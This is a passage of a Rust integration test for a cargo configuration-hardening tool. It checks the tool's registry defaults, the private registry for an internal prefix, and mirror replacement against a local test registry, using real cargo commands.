            name: name.into(),
            version: "1.0.0".into(),
            registry: registry.map(str::to_string),
            files: [
                (
                    "Cargo.toml".to_string(),
                    format!("[package]\nname = \"{name}\"\nversion = \"1.0.0\"\nedition = \"2021\"\nlicense = \"MIT\"\n"),
                ),
                ("src/lib.rs".to_string(), String::new()),
            ]
            .into_iter()
            .collect(),
            pubtime: "2024-01-01T00:00:00Z".into(),
        });
    }
    server.publish(&published).unwrap();
    let private = server.private_url("internal");

    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path().join("cargo-home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(
        home.join("config.toml"),
        format!("[source.crates-io]\nreplace-with = \"local\"\n\n[source.local]\nregistry = \"sparse+{url}\"\n"),
    )
    .unwrap();
    let ws = tmp.path().join("ws");
    std::fs::create_dir_all(ws.join("src")).unwrap();
    std::fs::write(
        ws.join("Cargo.toml"),
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\npublish = false\n\n[dependencies]\nrust-utilities-v2 = \"2.1\"\n",
    )
    .unwrap();
    std::fs::write(ws.join("src/main.rs"), "fn main() {}\n").unwrap();
    ok(
        real_cargo(&ws, &home, &["generate-lockfile"]),
        "generate-lockfile",
    );

    // Defaults: no registry declared, crates.io stays the default.
    let init = run(
        &ws,
        &[
            "init",
            "--offline",
            "--write-hardened",
            "--reflex-rev",
            REFLEX_REV,
        ],
    );
    assert!(init.stderr.contains("wrote "), "{}", init.stderr);
    let config = std::fs::read_to_string(ws.join(".cargo/config.toml")).unwrap();
    let parsed: toml::Table = toml::from_str(&config).unwrap();
    assert!(parsed.get("registries").is_none(), "{config}");
    assert!(parsed["registry"].get("default").is_none(), "{config}");
    ok(real_cargo(&ws, &home, &["fetch"]), "fetch");
    let meta = ok(
        real_cargo(
            &ws,
            &home,
            &["metadata", "--offline", "--format-version", "1"],
        ),
        "metadata --offline",
    );
    assert!(meta.contains("rust-utilities-v2"));
    ok(real_cargo(&ws, &home, &["add", "text-tidy"]), "cargo add");
    let manifest = std::fs::read_to_string(ws.join("Cargo.toml")).unwrap();
    assert!(manifest.contains("text-tidy = \"1.0.0\""), "{manifest}");

    // With a registry URL (and the mirror): declared, and the default for publish and add.
    let init = run(
        &ws,
        &[
            "init",
            "--offline",
            "--write-hardened",
            "--force",
            "--reflex-rev",
            REFLEX_REV,
            "--internal-prefix",
            "acme-",
            "--registry-url",
            &format!("sparse+{private}"),
            "--mirror-url",
            &format!("sparse+{url}"),
        ],
    );
    assert!(init.stderr.contains("wrote "), "{}", init.stderr);
    let config = std::fs::read_to_string(ws.join(".cargo/config.toml")).unwrap();
    let parsed: toml::Table = toml::from_str(&config).unwrap();
    assert_eq!(parsed["registry"]["default"].as_str(), Some("internal"));
    assert_eq!(
        parsed["source"]["crates-io"]["replace-with"].as_str(),
        Some("mirror")
    );
    // The project's mirror is now crates.io's replacement: a cargo home of its own.
    let home = tmp.path().join("cargo-home-plain");
    std::fs::create_dir_all(&home).unwrap();
    ok(
        real_cargo(&ws, &home, &["add", "acme-utils"]),
        "cargo add (private)",
    );
    let manifest = std::fs::read_to_string(ws.join("Cargo.toml")).unwrap();
    assert!(
        manifest.contains("acme-utils = { version = \"1.0.0\", registry = \"internal\" }"),
        "{manifest}"
    );
    // Public crates: named as such, and they come through the mirror.
    ok(
        real_cargo(&ws, &home, &["remove", "text-tidy"]),
        "cargo remove",
    );
    ok(
        real_cargo(&ws, &home, &["add", "text-tidy", "--registry", "crates-io"]),
        "cargo add --registry crates-io",
    );
    let manifest = std::fs::read_to_string(ws.join("Cargo.toml")).unwrap();
    assert!(manifest.contains("text-tidy = \"1.0.0\""), "{manifest}");
    ok(
        real_cargo(&ws, &home, &["fetch"]),
        "fetch through the mirror",
    );
    ok(
        real_cargo(
            &ws,
            &home,
            &["metadata", "--offline", "--format-version", "1"],
        ),
        "metadata --offline",
    );
}
